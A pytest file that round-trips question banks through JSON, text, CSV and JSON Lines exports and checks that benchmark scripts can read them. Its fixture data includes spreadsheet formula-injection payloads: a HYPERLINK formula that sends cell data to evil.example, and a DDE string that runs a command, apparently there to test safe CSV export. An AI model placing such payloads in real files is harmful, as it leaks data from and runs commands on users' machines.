"""A bank leaves the app in any format and comes back the same: every format through every other,
as a user does it (the export download, then the import page's preview and Import), and the
benchmark-shaped files read by a plain script expecting ``domain`` and ``target``."""

import csv
import io
import itertools
import json
from dataclasses import replace

import pandas
import pytest
from django.urls import reverse

from probe import bankformat
from probe.bankformat import BankData, BlockData, ItemData, KeyData
from probe.bankformat.lexicon import split_sources
from probe.models import Bank
from probe.services.banks import bank_import, bank_to_data

FORMATS = ("json", "text", "csv", "jsonl")
EXTENSIONS = {"json": "json", "text": "txt", "csv": "csv", "jsonl": "jsonl"}
# What the plain-text form has no place for (docs/bank-format.md, "What the text form does not
# keep"): an item's id, its answer format as a choice, the day its sources were checked, its
# version and why it was retired; and a source reference with " ; " in it is read as two.
LOST_IN_TEXT = ("ref", "answer_kind", "sources_checked", "version", "retired_reason")


def english_bank() -> BankData:
    """Everything a bank can hold, with text a spreadsheet would evaluate in every place."""
    return BankData(
        name="Web platform probe, spring 2025",
        description="Private probe for the platform team.\nDo not publish the items.",
        language="en",
        blocks=[
            BlockData(
                code="A",
                title="HTTP semantics",
                description="Status codes, headers and caching.",
                items=[
                    ItemData(
                        question="Which status code means Too Many Requests?",
                        answer_format="a three-digit number",
                        answer_kind="number",
                        topic="status codes",
                        ref="http-429",
                        version=3,
                        key=KeyData(
                            answer="429 Too Many Requests",
                            sources=["RFC 6585, section 4"],
                            sources_checked="2025-03-01",
                        ),
                    ),
                    ItemData(
                        question='Which header says, in "seconds", when to retry?\nAfter a 503.',
                        ref="-5",
                        key=KeyData(
                            answer="Retry-After",
                            flagged=True,
                            flag_note="RFC 9110 10.2.3;\nolder text says otherwise.",
                            sources=["RFC 9110 ; section 10.2.3", "MDN"],
                        ),
                    ),
                    ItemData(
                        question='=HYPERLINK("https://evil.example/?"&A1,"click")',
                        key=KeyData(
                            answer="@SUM(A1:A9)",
                            flag_note="+1 a note kept after the flag was cleared",
                            sources=["-1 with text", "=cmd|' /C calc'!A0"],
                        ),
                    ),
                    ItemData(question="'=already quoted, still the question", answer_kind="name"),
                ],
            ),
            BlockData(
                code="B",
                title="+1 block title",
                description="=a description a spreadsheet would run\nand a second line",
                items=[
                    ItemData(
                        question="What does round(2.5) return in Python 3?",
                        retired=True,
                        retired_reason="Every model knows it now.",
                        version=2,
                        key=KeyData(answer="2 (round half to even)"),
                    ),
                    ItemData(
                        question="-1 or +1: which does (-1) ** 0.5 raise?",
                        key=KeyData(answer="-1 is not raised; it is a complex number"),
                    ),
                ],
            ),
            BlockData(code="C", title="", items=[ItemData(question="A block with no title?")]),
        ],
    )


def japanese_bank() -> BankData:
    return BankData(
        name="ウェブ基盤プローブ 2025年春",
        description="社内用。閉じた本で答えること。",
        language="ja",
        blocks=[
            BlockData(
                code="A",
                title="レンダリング",
                description="描画と重なり順。",
                items=[
                    ItemData(
                        question="重なり順の新しい文脈を作る CSS プロパティはどれか。",
                        key=KeyData(answer="z-index", sources=["CSS 2.1"]),
                    ),
                    ItemData(
                        question="CSS Grid Layout の最初の公開草案が出たのは何年か。",
                        answer_format="西暦の4桁",
                        key=KeyData(
                            answer="2011",
                            flagged=True,
                            flag_note="2011年4月の草案は「Grid Layout」という名前で公開された。",
                        ),
                    ),
                ],
            ),
            BlockData(
                code="B",
                title="ネットワーク",
                items=[
                    ItemData(
                        question="HTTPS の既定のポート番号は何か。",
                        retired=True,
                        key=KeyData(answer="443"),
                    )
                ],
            ),
        ],
    )


BANKS = {"english": english_bank, "japanese": japanese_bank}


def through_text(data: BankData) -> BankData:
    """What the plain-text form keeps of a bank."""
    blocks = [
        replace(
            block,
            items=[
                replace(
                    item,
                    ref="",
                    answer_kind="",
                    version=1,
                    retired_reason="",
                    key=replace(
                        item.key,
                        sources_checked="",
                        sources=[part for s in item.key.sources for part in split_sources(s)],
                    )
                    if item.key
                    else None,
                )
                for item in block.items
            ],
        )
        for block in data.blocks
    ]
    return replace(data, blocks=blocks)


def download(client, bank: Bank, file_format: str) -> bytes:
    url = reverse("probe:bank_export", kwargs={"bank_pk": bank.pk})
    response = client.get(url, {"format": file_format})
    assert response.status_code == 200, response.content[:200]
    return response.content


def upload(client, team, content: bytes, filename: str) -> Bank:
    """The import page as a person uses it: the file, its preview, then Import (no name typed,
    so the bank's name is the file's own)."""
    url = reverse("probe:bank_import", kwargs={"team_slug": team.slug})
    preview = client.post(url, {"file": named_file(content, filename), "name": ""})
    assert preview.status_code == 200, preview.content.decode()[:2000]
    before = set(Bank.objects.values_list("pk", flat=True))
    response = client.post(
        url,
        {
            "source_text": content.decode("utf-8"),
            "filename": filename,
            "name": "",
            "action": "import",
            "shown": "",
        },
    )
    assert response.status_code == 302, response.content.decode()[:2000]
    (new,) = set(Bank.objects.values_list("pk", flat=True)) - before
    return Bank.objects.get(pk=new)


def named_file(content: bytes, filename: str):
    handle = io.BytesIO(content)
    handle.name = filename
    return handle


def assert_same_bank(got: BankData, expected: BankData) -> None:
    """Field by field, so that a difference names its place."""
    assert (got.name, got.description, got.language) == (
        expected.name,
        expected.description,
        expected.language,
    )
    assert [b.code for b in got.blocks] == [b.code for b in expected.blocks]
    for block, want in zip(got.blocks, expected.blocks, strict=True):
        assert (block.title, block.description) == (want.title, want.description), block.code
        assert len(block.items) == len(want.items), block.code
        for number, (item, want_item) in enumerate(
            zip(block.items, want.items, strict=True), start=1
        ):
            assert item == want_item, f"{block.code}{number}"
    assert got == expected


@pytest.mark.parametrize("bank_name", sorted(BANKS))
@pytest.mark.parametrize("first,second", list(itertools.product(FORMATS, FORMATS)))
def test_every_format_through_every_other_gives_the_same_bank(
    client, world, bank_name, first, second
):
    original = BANKS[bank_name]()
    bank = bank_import(team=world.team, user=world.users["editor"], data=original)
    assert_same_bank(bank_to_data(bank), original)  # what the app holds, before any file
    client.force_login(world.users["editor"])

    stem = f"{bank_name}-export"
    once = upload(client, world.team, download(client, bank, first), f"{stem}.{EXTENSIONS[first]}")
    content = download(client, once, second)
    twice = upload(client, world.team, content, f"{stem}.{EXTENSIONS[second]}")

    expected = through_text(original) if "text" in (first, second) else original
    assert_same_bank(bank_to_data(twice), expected)


def test_the_text_form_loses_only_what_its_documentation_says(world):
    """The pairs through text above compare against through_text(): this holds that helper to
    the documented list, so that it cannot hide a loss."""
    original = english_bank()
    lost = through_text(original)
    differing = set()
    for item, kept in zip(original.items, lost.items, strict=True):
        for name in ("ref", "answer_kind", "version", "retired_reason"):
            if getattr(item, name) != getattr(kept, name):
                differing.add(name)
        if item.key and item.key.sources_checked != kept.key.sources_checked:
            differing.add("sources_checked")
        if item.key and item.key.sources != kept.key.sources:
            differing.add("sources")
    assert differing == {*LOST_IN_TEXT, "sources"}
    again = bankformat.parse_text(bankformat.dump_text(original))
    assert again == lost


def test_a_benchmark_script_reads_the_csv_and_jsonl_exports(client, world, tmp_path):
    """As an abstention-aware benchmark loads its items: csv.DictReader or json per line,
    reading ``id``, ``domain``, ``question``, ``target``, ``source_refs`` and ``answer_format``."""
    bank = bank_import(team=world.team, user=world.users["editor"], data=japanese_bank())
    client.force_login(world.users["editor"])
    (tmp_path / "items.csv").write_bytes(download(client, bank, "csv"))
    (tmp_path / "items.jsonl").write_bytes(download(client, bank, "jsonl"))

    with open(tmp_path / "items.csv", encoding="utf-8-sig", newline="") as handle:
        from_csv = [
            (row["id"], row["domain"], row["question"], row["target"], row["answer_format"])
            for row in csv.DictReader(handle)
        ]
    with open(tmp_path / "items.jsonl", encoding="utf-8") as handle:
        records = [json.loads(line) for line in handle if line.strip()]
    from_jsonl = [
        (r["id"], r["domain"], r["question"], r["target"], r["answer_format"]) for r in records
    ]
    expected = [
        ("", "レンダリング", "重なり順の新しい文脈を作る CSS プロパティはどれか。", "z-index", ""),
        (
            "",
            "レンダリング",
            "CSS Grid Layout の最初の公開草案が出たのは何年か。",
            "2011",
            "西暦の4桁",
        ),
        ("", "ネットワーク", "HTTPS の既定のポート番号は何か。", "443", ""),
    ]
    assert from_csv == expected
    assert from_jsonl == expected
    # pandas reads the CSV with no option but keeping empty cells as text.
    frame = pandas.read_csv(tmp_path / "items.csv", keep_default_na=False, dtype=str)
    assert list(frame["domain"]) == [row[1] for row in expected]
    assert list(frame["target"]) == [row[3] for row in expected]
    assert [r["source_refs"] for r in records] == [["CSS 2.1"], [], []]
    assert [r["flagged"] for r in records] == [False, True, False]
    assert [r["retired"] for r in records] == [False, False, True]
    assert {r["block_description"] for r in records} == {"描画と重なり順。", ""}


def test_an_older_export_with_block_title_and_key_still_imports(world):
    """The columns the CSV and JSON Lines exports wrote before they took the benchmark's names."""
    old_csv = (
        "id,block,block_title,topic,question,key,source_refs,answer_format,answer_kind,"
        "flagged,flag_note,sources_checked,retired\n"
        "q1,A,HTTP semantics,codes,Which code means Too Many Requests?,429,RFC 6585,"
        "number,number,false,,2025-03-01,false\n"
        "q2,B,Python,,What does round(2.5) return?,2,,,,true,half to even,,true\n"
    )
    old_jsonl = "".join(
        json.dumps(record) + "\n"
        for record in (
            {"id": "q1", "domain": "A", "block_title": "HTTP semantics", "question": "Q1?"},
            {"id": "q2", "domain": "Web platform", "question": "Q2?", "key": "x"},
        )
    )
    csv_bank = bankformat.load(old_csv.encode(), "old.csv")
    assert [(b.code, b.title) for b in csv_bank.blocks] == [
        ("A", "HTTP semantics"),
        ("B", "Python"),
    ]
    first, second = csv_bank.items
    assert (first.ref, first.topic, first.key.answer, first.key.sources) == (
        "q1",
        "codes",
        "429",
        ["RFC 6585"],
    )
    assert first.key.sources_checked == "2025-03-01" and first.answer_kind == "number"
    assert second.retired and second.key.flagged and second.key.flag_note == "half to even"
    jsonl_bank = bankformat.load(old_jsonl.encode(), "old.jsonl")
    # A domain with a block_title but no block column is the block's code, as it was read then;
    # a domain alone is a block's name.
    assert [(b.code, b.title) for b in jsonl_bank.blocks] == [
        ("A", "HTTP semantics"),
        ("B", "Web platform"),
    ]
    assert jsonl_bank.items[1].key.answer == "x"


def test_a_hand_written_benchmark_file_gives_the_bank_in_one_row_only(world):
    """The bank's and a block's columns may be given once: an empty cell says nothing, and two
    different values are refused with both lines."""
    text = (
        "domain,block,block_description,question,target,bank_name,bank_description\n"
        "HTTP,A,Codes and headers.,Q1?,429,My probe,About HTTP.\n"
        "HTTP,A,,Q2?,Retry-After,,\n"
        "Python,B,,Q3?,PEP 498,,\n"
    )
    bank = bankformat.load(text.encode(), "mine.csv")
    assert (bank.name, bank.description) == ("My probe", "About HTTP.")
    assert [(b.code, b.title, b.description) for b in bank.blocks] == [
        ("A", "HTTP", "Codes and headers."),
        ("B", "Python", ""),
    ]
    clash = text + "HTTP,A,Other words.,Q4?,x,Another name,\n"
    with pytest.raises(bankformat.BankFormatError) as refused:
        bankformat.load(clash.encode(), "mine.csv")
    assert [str(p) for p in refused.value.problems] == [
        "Line 5: bank_name: differs from the one on line 2.",
        "Line 5: block A has another description here than on line 2.",
    ]
    with pytest.raises(bankformat.BankFormatError) as refused:
        bankformat.load(b"question,version,bank_language\nQ?,0,fr\n", "bad.csv")
    assert [str(p) for p in refused.value.problems] == [
        "Line 2: bank_language: must be one of en, ja, or empty (found fr).",
        'Line 2: version: must be a whole number from 1 up (found "0").',
    ]
